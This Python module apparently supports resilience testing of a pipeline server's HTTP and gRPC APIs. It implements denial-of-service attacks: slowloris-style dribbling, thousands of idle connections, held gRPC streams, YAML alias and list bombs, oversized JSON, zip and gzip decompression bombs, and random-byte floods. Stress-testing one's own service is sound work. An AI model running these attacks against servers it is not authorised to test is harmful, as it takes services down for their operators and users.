"""What a stranger may send to hold up a server: each attack goes on until it is told to stop.

Invariants: nothing here needs credentials or knows more than the addresses. An attack goes on when the server refuses
it, as an attacker would; it says when it is under way, and leaves no connection open behind it.
"""

from __future__ import annotations

import io
import os
import resource
import selectors
import socket
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass
from multiprocessing.synchronize import Event as ProcessEvent
from threading import Event as ThreadEvent
from typing import Any, Union

import grpc
from google.protobuf import struct_pb2
from penstock_api.v1 import insight_pb2, upload_pb2
from penstock_api.v2beta1 import run_pb2

Event = Union[ProcessEvent, ThreadEvent]
POST = b"POST /apis/v2beta1/experiments HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
_LIST = "/kubeflow.pipelines.backend.api.v2beta1.RunService/ListRuns"
_CREATE_RUN = "/kubeflow.pipelines.backend.api.v2beta1.RunService/CreateRun"
_PLAN = "/penstock.v1.InsightService/PlanPipeline"
_UPLOAD = "/penstock.v1.PipelineUploadService/UploadPipeline"
_WATCH = "/grpc.health.v1.Health/Watch"


@dataclass(frozen=True, slots=True)
class Target:
    """Addresses as host:port."""

    http: str
    grpc: str


Attack = Callable[[Target, Event, Event], None]


def slow_bodies(target: Target, under_way: Event, stop: Event) -> None:
    """1,000 requests, whose bodies bring a byte a second."""
    _dribble(target.http, 1000, POST + b"Content-Length: 100000\r\n\r\n{", under_way, stop)


def header_dribblers(target: Target, under_way: Event, stop: Event) -> None:
    """2,000 requests, whose headers bring a byte a second."""
    _dribble(target.http, 2000, b"GET /apis/v2beta1/runs HTTP/1.1\r\nHost: localhost\r\nX-Slow: ", under_way, stop)


def idle_connections(target: Target, under_way: Event, stop: Event) -> None:
    """5,000 connections that send nothing, a half of them to each port."""
    allow_many_files()
    held = _open(target.http, 2500, b"") + _open(target.grpc, 2500, b"")
    under_way.set()
    stop.wait()
    _close(held)


def held_calls(target: Target, under_way: Event, stop: Event) -> None:
    """64 calls whose message does not come, and 64 streams that are not read, over gRPC."""

    def never() -> Iterator[bytes]:
        stop.wait()
        yield from ()

    with grpc.insecure_channel(target.grpc) as channel:
        held: Any = channel.stream_unary(_LIST, bytes, bytes)
        watch: Any = channel.unary_stream(_WATCH, bytes, bytes)
        calls = [held.future(never()) for _ in range(64)] + [watch(b"") for _ in range(64)]
        under_way.set()
        stop.wait()
        for call in calls:
            call.cancel()


def yaml_bombs(target: Target, under_way: Event, stop: Event) -> None:
    """Packages of 8 MB of lists, and of 2.7 MB of document markers, one after the other."""
    files = [b"[" + b"[]," * 2_700_000 + b"]", b"---\n" * 675_000]
    _post_again_and_again(target, [_upload(file) for file in files], under_way, stop)


def alias_bombs(target: Target, under_way: Event, stop: Event) -> None:
    """Packages of a few kilobytes that have nearly a million values with their aliases expanded, 32 at a time."""
    lines = [b"a0: &a0 [" + b"x," * 99 + b"]"]
    lines += [b"a%d: &a%d [" % (level, level) + b"*a%d," % (level - 1) * 9 + b"]" for level in range(1, 5)]
    _post_again_and_again(target, [_upload(b"\n".join(lines))], under_way, stop, at_a_time=32)


def small_bombs(target: Target, under_way: Event, stop: Event) -> None:
    """Packages and runs of 15 and 30 kB of lists, 32 at a time."""
    lists = [b"[" + b"[]," * count + b"[]]" for count in (5_000, 10_000)]
    requests = [_upload(text) for text in lists]
    requests += [_json("/apis/v2beta1/runs", b'{"pipeline_spec":{"a":' + text + b"}}") for text in lists]
    _post_again_and_again(target, requests, under_way, stop, at_a_time=32)


def json_lists(target: Target, under_way: Event, stop: Event) -> None:
    """Runs of 8 MB of JSON: a list of four million numbers, and a document with nearly a million of them."""
    numbers = b'{"display_name":"x","pipeline_spec":{"a":[' + b"1," * 3_999_999 + b"1]}}"
    executor = b'{"container":{"args":[' + b'"1234",' * 990_000 + b'"1"]}}'
    document = (
        b'{"display_name":"x","pipeline_spec":{"schemaVersion":"2.1.0","deploymentSpec":{"executors":{"a":'
        + executor + b"}}}}"
    )  # fmt: skip
    requests = [_json("/apis/v2beta1/runs", body) for body in (numbers, document)]
    _post_again_and_again(target, requests, under_way, stop)


def grpc_documents(target: Target, under_way: Event, stop: Event) -> None:
    """Runs, plans and packages of 8 MB over gRPC, four at a time."""
    document = struct_pb2.Struct()
    document["schemaVersion"] = "2.1.0"
    document["a"] = ["1234"] * 700_000
    calls = [
        (_CREATE_RUN, run_pb2.CreateRunRequest(run=run_pb2.Run(display_name="x", pipeline_spec=document))),
        (_PLAN, insight_pb2.PlanPipelineRequest(pipeline_spec=document)),
        (_UPLOAD, upload_pb2.UploadPipelineRequest(name="x", content=b"[" + b"[]," * 2_700_000 + b"]")),
    ]
    messages = [(method, message.SerializeToString()) for method, message in calls]
    with grpc.insecure_channel(target.grpc) as channel, ThreadPoolExecutor(4) as pool:

        def send(number: int) -> None:
            while not stop.is_set():
                method, message = messages[number % len(messages)]
                number += 1
                call: Any = channel.unary_unary(method, bytes, bytes)
                with suppress(grpc.RpcError):
                    call(message, timeout=30)

        sent = [pool.submit(send, number) for number in range(4)]
        under_way.set()
        for one in sent:
            one.result()


def packed_bombs(target: Target, under_way: Event, stop: Event) -> None:
    """A zip and a gzip of 128 MB of zeros each, four times what is read of one, one after the other."""
    zipped = io.BytesIO()
    packer = zlib.compressobj(9, wbits=31)
    parts = []
    with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("pipeline.yaml", "w") as entry:
        for _ in range(128):
            entry.write(bytes(1 << 20))
            parts.append(packer.compress(bytes(1 << 20)))
    files = [zipped.getvalue(), b"".join(parts) + packer.flush()]
    _post_again_and_again(target, [_upload(file) for file in files], under_way, stop)


def garbage_http(target: Target, under_way: Event, stop: Event) -> None:
    """Random bytes on the HTTP port, as fast as they go."""
    _garbage(target.http, b"", under_way, stop)


def garbage_grpc(target: Target, under_way: Event, stop: Event) -> None:
    """Random bytes on the gRPC port, as fast as they go; every other connection begins as HTTP/2 does."""
    _garbage(target.grpc, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", under_way, stop)


ATTACKS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        slow_bodies, header_dribblers, idle_connections, held_calls, yaml_bombs, alias_bombs, small_bombs,
        packed_bombs, json_lists, grpc_documents, garbage_http, garbage_grpc,
    )
}  # fmt: skip


def allow_many_files() -> None:
    """As many open files as the system lets this process have."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=30)


def _open(address: str, count: int, sent: bytes) -> list[socket.socket]:
    made = []
    for _ in range(count):
        with suppress(OSError):
            connection = connect(address)
            connection.sendall(sent)
            connection.setblocking(False)
            made.append(connection)
    return made


def _dribble(address: str, count: int, beginning: bytes, under_way: Event, stop: Event) -> None:
    """Keeps `count` connections open; one that the server closes is made anew."""
    allow_many_files()
    held = _open(address, count, beginning)
    under_way.set()
    while not stop.wait(1.0):
        alive = [connection for connection in held if _send(connection, b"x")]
        held = alive + _open(address, min(count - len(alive), 200), beginning)
    _close(held)


def _send(connection: socket.socket, data: bytes) -> bool:
    try:
        connection.send(data)
    except BlockingIOError:
        return True
    except OSError:
        connection.close()
        return False
    return True


def _close(connections: list[socket.socket]) -> None:
    for connection in connections:
        connection.close()


def _post_again_and_again(
    target: Target, requests: list[bytes], under_way: Event, stop: Event, at_a_time: int = 4
) -> None:
    """The requests in turn, so many at a time, each on a connection of its own."""
    with selectors.DefaultSelector() as selector:
        sent = 0
        while not stop.is_set():
            while len(selector.get_map()) < at_a_time:
                connection = connect(target.http)
                with suppress(OSError):
                    connection.sendall(requests[sent % len(requests)])
                selector.register(connection, selectors.EVENT_READ)
                sent += 1
            under_way.set()
            for key, _ in selector.select(0.1):
                answered: Any = key.fileobj
                selector.unregister(answered)
                answered.close()
        for key in list(selector.get_map().values()):
            closing: Any = key.fileobj
            closing.close()


def _upload(content: bytes) -> bytes:
    body = b'--b\r\nContent-Disposition: form-data; name="uploadfile"; filename=""\r\n\r\n' + content + b"\r\n--b--\r\n"
    return _post("/apis/v2beta1/pipelines/upload", "multipart/form-data; boundary=b", body)


def _json(path: str, body: bytes) -> bytes:
    return _post(path, "application/json", body)


def _post(path: str, content_type: str, body: bytes) -> bytes:
    head = (
        f"POST {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
        f"Content-Type: {content_type}\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


def _garbage(address: str, preface: bytes, under_way: Event, stop: Event) -> None:
    noise = os.urandom(1 << 20)
    count = 0
    while not stop.is_set():
        with suppress(OSError), connect(address) as connection:
            connection.settimeout(1)
            under_way.set()
            count += 1
            if preface and count % 2:
                connection.sendall(preface)
            end = time.monotonic() + 1
            while time.monotonic() < end and not stop.is_set():
                connection.sendall(noise)
